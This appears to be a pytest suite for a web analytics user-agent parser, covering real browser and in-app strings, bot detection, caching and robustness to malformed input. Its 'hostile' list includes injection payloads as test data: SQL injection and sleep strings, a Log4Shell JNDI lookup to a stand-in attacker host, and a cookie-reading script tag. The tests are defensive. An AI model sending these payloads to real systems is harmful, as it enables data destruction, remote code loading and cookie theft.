"""User-Agent parsing: real browsers, in-app browsers, and strings that once broke parsers."""

from __future__ import annotations

import pytest
import ua_parser.regex

from collector import bots, useragent

# (id, user agent, browser, browser version, os, os version, device type): real strings.
BROWSERS = [
    ("chrome-windows",
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
     "Safari/537.36", "Chrome", "131.0", "Windows", "10", "desktop"),
    ("chrome-macos",
     "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/131.0.0.0 Safari/537.36", "Chrome", "131.0", "Mac OS X", "10.15", "desktop"),
    ("chrome-linux",
     "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
     "Safari/537.36", "Chrome", "131.0", "Linux", "", "desktop"),
    ("chrome-chromeos",
     "Mozilla/5.0 (X11; CrOS x86_64 14541.0.0) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
     "Safari/537.36", "Chrome", "131.0", "Chrome OS", "14541.0", "desktop"),
    ("firefox-windows",
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0",
     "Firefox", "133.0", "Windows", "10", "desktop"),
    ("firefox-windows7",
     "Mozilla/5.0 (Windows NT 6.1; Win64; x64; rv:115.0) Gecko/20100101 Firefox/115.0",
     "Firefox", "115.0", "Windows", "7", "desktop"),
    ("firefox-macos",
     "Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:133.0) Gecko/20100101 Firefox/133.0",
     "Firefox", "133.0", "Mac OS X", "10.15", "desktop"),
    ("firefox-ubuntu",
     "Mozilla/5.0 (X11; Ubuntu; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0",
     "Firefox", "133.0", "Ubuntu", "", "desktop"),
    ("safari-macos",
     "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/18.1 Safari/605.1.15", "Safari", "18.1", "Mac OS X", "10.15", "desktop"),
    ("edge-windows",
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
     "Safari/537.36 Edg/131.0.0.0", "Edge", "131.0", "Windows", "10", "desktop"),
    ("edge-macos",
     "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/131.0.0.0 Safari/537.36 Edg/131.0.2903.86", "Edge", "131.0", "Mac OS X", "10.15", "desktop"),
    ("opera-windows",
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/132.0.0.0 "
     "Safari/537.36 OPR/117.0.0.0", "Opera", "117.0", "Windows", "10", "desktop"),
    ("yandex-windows",
     "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 "
     "YaBrowser/24.6.0.0 Safari/537.36", "Yandex Browser", "24.6", "Windows", "10", "desktop"),
    ("coccoc-windows",
     "Mozilla/5.0 (Windows NT 10.0; WOW64) AppleWebKit/537.36 (KHTML, like Gecko) coc_coc_browser/94.0.202 "
     "Chrome/88.0.4324.202 Safari/537.36", "Coc Coc", "94.0", "Windows", "10", "desktop"),
    ("safari-iphone",
     "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/18.1 Mobile/15E148 Safari/604.1", "Mobile Safari", "18.1", "iOS", "18.1", "mobile"),
    ("chrome-iphone",
     "Mozilla/5.0 (iPhone; CPU iPhone OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1", "Chrome Mobile iOS", "131.0", "iOS", "17.7", "mobile"),
    ("chrome-android-reduced",
     "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
     "Mobile Safari/537.36", "Chrome Mobile", "131.0", "Android", "10", "mobile"),
    ("chrome-android-pixel",
     "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/120.0.6099.144 Mobile Safari/537.36", "Chrome Mobile", "120.0", "Android", "14", "mobile"),
    ("chrome-android-cubot",  # "CUBOT" holds "bot": a phone, not a crawler
     "Mozilla/5.0 (Linux; Android 9; CUBOT P30) AppleWebKit/537.36 (KHTML, like Gecko) "
     "Chrome/120.0.6099.144 Mobile Safari/537.36", "Chrome Mobile", "120.0", "Android", "9", "mobile"),
    ("samsung-internet-phone",
     "Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-S918B) AppleWebKit/537.36 (KHTML, like Gecko) "
     "SamsungBrowser/23.0 Chrome/115.0.0.0 Mobile Safari/537.36",
     "Samsung Internet", "23.0", "Android", "13", "mobile"),
    ("firefox-android-phone",
     "Mozilla/5.0 (Android 14; Mobile; rv:133.0) Gecko/133.0 Firefox/133.0",
     "Firefox Mobile", "133.0", "Android", "14", "mobile"),
    ("opera-android",
     "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 "
     "Mobile Safari/537.36 OPR/86.0.0.0", "Opera Mobile", "86.0", "Android", "10", "mobile"),
    ("opera-mini",  # no "Mobile" token, yet a phone
     "Opera/9.80 (Android; Opera Mini/36.2.2254/119.132; U; id) Presto/2.12.423 Version/12.16",
     "Opera Mini", "36.2", "Android", "", "mobile"),
    ("uc-browser",
     "Mozilla/5.0 (Linux; U; Android 11; en-US; RMX2185 Build/QP1A.190711.020) AppleWebKit/537.36 "
     "(KHTML, like Gecko) Version/4.0 Chrome/100.0.4896.58 UCBrowser/13.4.0.1306 Mobile Safari/537.36",
     "UC Browser", "13.4", "Android", "11", "mobile"),
    ("coccoc-android",
     "Mozilla/5.0 (Linux; Android 13; SM-G991B) AppleWebKit/537.36 (KHTML, like Gecko) "
     "coc_coc_browser/109.0.0.0 Chrome/123.0.0.0 Mobile Safari/537.36",
     "Coc Coc", "109.0", "Android", "13", "mobile"),
    ("miui-browser",
     "Mozilla/5.0 (Linux; U; Android 13; en-gb; 2201117TY Build/TKQ1.221114.001) AppleWebKit/537.36 "
     "(KHTML, like Gecko) Version/4.0 Chrome/112.0.5615.136 Mobile Safari/537.36 "
     "XiaoMi/MiuiBrowser/14.5.1-gn",
     "MiuiBrowser", "14.5", "Android", "13", "mobile"),
    ("wechat-ios",
     "Mozilla/5.0 (iPhone; CPU iPhone OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Mobile/15E148 MicroMessenger/8.0.44(0x18002c2c) NetType/WIFI Language/zh_CN",
     "WeChat", "8.0", "iOS", "17.1", "mobile"),
    ("wechat-android",  # ua-parser alone says "Chrome Mobile WebView"
     "Mozilla/5.0 (Linux; Android 13; 22081212C Build/TKQ1.220829.002; wv) AppleWebKit/537.36 (KHTML, like "
     "Gecko) Version/4.0 Chrome/107.0.5304.141 Mobile Safari/537.36 XWEB/5023 MMWEBSDK/20230303 MMWEBID/6973 "
     "MicroMessenger/8.0.34.2340(0x2800225B) WeChat/arm64 Weixin NetType/WIFI Language/zh_CN ABI/arm64",
     "WeChat", "8.0", "Android", "13", "mobile"),
    ("facebook-ios",
     "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Mobile/15E148 [FBAN/FBIOS;FBAV/501.2.0.65.109;FBBV/717317385;FBDV/iPhone12,8;FBMD/iPhone;FBSN/iOS;"
     "FBSV/18.3.2;FBSS/2;FBCR/;FBID/phone;FBLC/en_US;FBOP/80]", "Facebook", "501.2", "iOS", "18.3", "mobile"),
    ("facebook-android",
     "Mozilla/5.0 (Linux; Android 13; SM-S911B Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like "
     "Gecko) Version/4.0 Chrome/119.0.6045.163 Mobile Safari/537.36 [FB_IAB/FB4A;FBAV/443.0.0.23.229;]",
     "Facebook", "443.0", "Android", "13", "mobile"),
    ("zalo-android",  # Zalo's "version" is its build number
     "Mozilla/5.0 (Linux; Android 13; SM-A536E Build/TP1A.220624.014; wv) AppleWebKit/537.36 (KHTML, like "
     "Gecko) Version/4.0 Chrome/125.0.6422.165 Mobile Safari/537.36 Zalo android/12100621 ZaloTheme/light "
     "ZaloLanguage/vn", "Zalo", "12100621", "Android", "13", "mobile"),
    ("zalo-ios",
     "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Mobile/15E148 Zalo iOS/25.07.01 ZaloTheme/light ZaloLanguage/vi",
     "Zalo", "25.07", "iOS", "18.5", "mobile"),
    ("instagram-ios",
     "Mozilla/5.0 (iPhone; CPU iPhone OS 18_3_2 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Mobile/22D82 Instagram 375.2.0.33.77 (iPhone16,1; iOS 18_3_2; en_US; en; scale=3.00; 1179x2556; "
     "719346134)", "Instagram", "375.2", "iOS", "18.3", "mobile"),
    ("safari-ipad",
     "Mozilla/5.0 (iPad; CPU OS 17_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.1 "
     "Mobile/15E148 Safari/604.1", "Mobile Safari", "17.1", "iOS", "17.1", "tablet"),
    ("chrome-ipad",
     "Mozilla/5.0 (iPad; CPU OS 17_7 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "CriOS/131.0.6778.73 Mobile/15E148 Safari/604.1", "Chrome Mobile iOS", "131.0", "iOS", "17.7", "tablet"),
    # iPadOS Safari in its default desktop mode sends macOS Safari's exact string: counted as a Mac.
    ("ipados-desktop-mode",
     "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/17.1 Safari/605.1.15", "Safari", "17.1", "Mac OS X", "10.15", "desktop"),
    # ... but an iPad WebView in desktop mode keeps iOS's build token: a tablet.
    ("ipad-webview-desktop-mode",
     "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) "
     "Version/18.3.1 Mobile/15E148 Safari/604.1", "Safari", "18.3", "Mac OS X", "10.15", "tablet"),
    ("chrome-android-tablet",
     "Mozilla/5.0 (Linux; Android 13; SM-X700) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 "
     "Safari/537.36", "Chrome", "120.0", "Android", "13", "tablet"),
    ("chrome-android-tablet-reduced",
     "Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 "
     "Safari/537.36", "Chrome", "131.0", "Android", "10", "tablet"),
    ("samsung-internet-tablet",
     "Mozilla/5.0 (Linux; Android 13; SAMSUNG SM-X700) AppleWebKit/537.36 (KHTML, like Gecko) "
     "SamsungBrowser/23.0 Chrome/115.0.0.0 Safari/537.36",
     "Samsung Internet", "23.0", "Android", "13", "tablet"),
    ("firefox-android-tablet",
     "Mozilla/5.0 (Android 14; Tablet; rv:133.0) Gecko/133.0 Firefox/133.0",
     "Firefox Mobile", "133.0", "Android", "14", "tablet"),
    ("kindle-silk",
     "Mozilla/5.0 (Linux; Android 9; KFTRWI) AppleWebKit/537.36 (KHTML, like Gecko) Silk/134.1.82 like "
     "Chrome/134.0.6998.135 Safari/537.36", "Amazon Silk", "134.1", "Android", "9", "tablet"),
]
BROWSER_UAS = [case[1] for case in BROWSERS]

# User agents that once broke parsers (ReDoS, encoding, truncation, injection): each its own case.
HOSTILE = [
    pytest.param("", id="empty"),
    pytest.param("     ", id="only-spaces"),
    pytest.param("\t\r\n", id="only-control-whitespace"),
    pytest.param("Mozilla/5.0 (", id="mozilla-open-paren"),
    pytest.param("Mozilla/5.0 (((Windows NT 10.0; Win64; x64) AppleWebKit/537.36 ((KHTML, like Gecko) "
                 "Chrome/131.0.0.0 Safari/537.36)))", id="unbalanced-parens"),
    pytest.param(")))(((;;;///", id="parens-only"),
    pytest.param("Mozilla/5.0 (Windows NT 10.0) " + "(" * 5000, id="5000-open-parens"),
    pytest.param("Mozilla/5.0 (Windows NT 10.0; Win64; x64) Chrome/131.0.0.0 " + "A" * 10_000, id="10kb"),
    pytest.param("Mozilla/5.0 (Linux; Android 5.0.2; " + "a;" * 5000 + ")", id="android-redos"),
    pytest.param("Mozilla/5.0 (Linux; Android 8.0.0; SM-G950F Build/R16NW " + " " * 5000 + "X",
                 id="spaces-redos"),
    pytest.param("Mozilla/5.0 😀🙈 (iPhone; CPU iPhone OS 17_0 like Mac OS X) 🦄 Safari", id="emoji"),
    pytest.param("Мозилла/5.0 (Виндоус 11) Хром/131.0", id="cyrillic"),
    pytest.param("Mozilla/5.0 (Windows NT 10.0) 浏览器/1.0 微信", id="cjk"),
    pytest.param("Mozilla/5.0\x00(Windows NT 10.0)\x00Chrome/120.0.0.0\x00", id="nul-bytes"),
    pytest.param("Mozilla/5.0 \ud800 (Windows NT 10.0) Chrome/120.0.0.0", id="lone-surrogate"),
    pytest.param("Mozilla/5.0' OR '1'='1'; DROP TABLE events; --", id="sql-injection"),
    pytest.param("'); SELECT sleep(10); --", id="sql-sleep"),
    pytest.param("${jndi:ldap://attacker.example/a}", id="log4shell"),
    pytest.param("<script>alert(document.cookie)</script>", id="html"),
    pytest.param("Mozilla/5.0 (Windows NT 10.0) Chrome/" + "9" * 500 + "." + "1" * 500 + " Safari/537.36",
                 id="huge-version"),
    pytest.param("Mozilla/5.0 (Linux; Android " + "9" * 300 + "; K) Chrome/1.2 Mobile Safari/537.36",
                 id="huge-os-version"),
    pytest.param("Mozilla/5.0 (iPhone; CPU iPhone OS " + "1_" * 500 + " like Mac OS X)",
                 id="huge-ios-version"),
    pytest.param("Mozilla/5.0 (compatible; " + "X" * 300 + "/1.0)", id="huge-family"),
    pytest.param("%00%0d%0a%ff", id="percent-encoded"),
    pytest.param("\x1b[31mred\x1b[0m", id="ansi-escapes"),
]


def test_the_rust_resolver_parses() -> None:
    assert isinstance(useragent.resolver(), ua_parser.regex.Resolver)


@pytest.mark.parametrize(
    ("user_agent", "browser", "browser_version", "os", "os_version", "device"),
    [pytest.param(*case[1:], id=case[0]) for case in BROWSERS],
)
def test_real_user_agents(
    user_agent: str, browser: str, browser_version: str, os: str, os_version: str, device: str
) -> None:
    info = useragent.parse(user_agent)
    assert (info.browser, info.browser_version, info.os, info.os_version, info.device_type) == (
        browser, browser_version, os, os_version, device
    )
    assert not info.is_bot


@pytest.mark.parametrize("user_agent", HOSTILE)
def test_hostile_user_agents_never_raise(user_agent: str) -> None:
    useragent.cache_clear()
    info = useragent.parse(user_agent)
    for family in (info.browser, info.os, info.device_family):
        assert isinstance(family, str) and len(family) <= useragent.MAX_FAMILY
    for version in (info.browser_version, info.os_version):
        assert isinstance(version, str) and len(version) <= useragent.MAX_VERSION
    assert info.device_type in ("desktop", "mobile", "tablet")
    assert info.bot_reason is None or info.bot_reason in bots.REASONS
    assert useragent.parse(user_agent) is info  # and the answer is cached


@pytest.mark.parametrize("user_agent", ["", "   ", "\t"])
def test_an_empty_user_agent_is_a_bot(user_agent: str) -> None:
    info = useragent.parse(user_agent)
    assert info.bot_reason == bots.EMPTY
    assert (info.browser, info.os, info.device_type) == ("", "", "desktop")


def test_unknown_values_are_empty_not_other() -> None:
    info = useragent.parse("Mozilla/5.0 (compatible; SomethingNew/1.0)")
    assert (info.browser, info.os, info.device_family) == ("", "", "")


def test_huge_versions_are_cut() -> None:
    info = useragent.parse("Mozilla/5.0 (Windows NT 10.0) Chrome/" + "9" * 500 + ".1 Safari/537.36")
    assert info.browser == "Chrome"
    assert info.browser_version == "9" * useragent.MAX_VERSION


def test_repeat_user_agents_come_from_the_cache() -> None:
    useragent.cache_clear()
    first = useragent.parse(BROWSER_UAS[0])
    assert useragent.parse(BROWSER_UAS[0]) is first
    assert useragent._parse_cached.cache_info().hits == 1


def test_strings_past_the_limit_share_one_cache_entry() -> None:
    base = BROWSER_UAS[0] + " " * useragent.MAX_USER_AGENT
    assert useragent.parse(base + "a") is useragent.parse(base + "b")


def test_bots_carry_their_reason() -> None:
    googlebot = useragent.parse("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)")
    assert googlebot.is_bot and googlebot.device_family == "Spider"
    assert googlebot.bot_reason == bots.SPIDER
    headless = useragent.parse(
        "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/120.0.6099.28 "
        "Safari/537.36"
    )
    assert headless.bot_reason == bots.HEADLESS and headless.browser == "HeadlessChrome"


def test_googlebot_smartphone_is_a_mobile_bot() -> None:
    info = useragent.parse(
        "Mozilla/5.0 (Linux; Android 6.0.1; Nexus 5X Build/MMB29P) AppleWebKit/537.36 (KHTML, like Gecko) "
        "Chrome/131.0.6778.139 Mobile Safari/537.36 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)"
    )
    assert info.is_bot and info.device_type == "mobile"
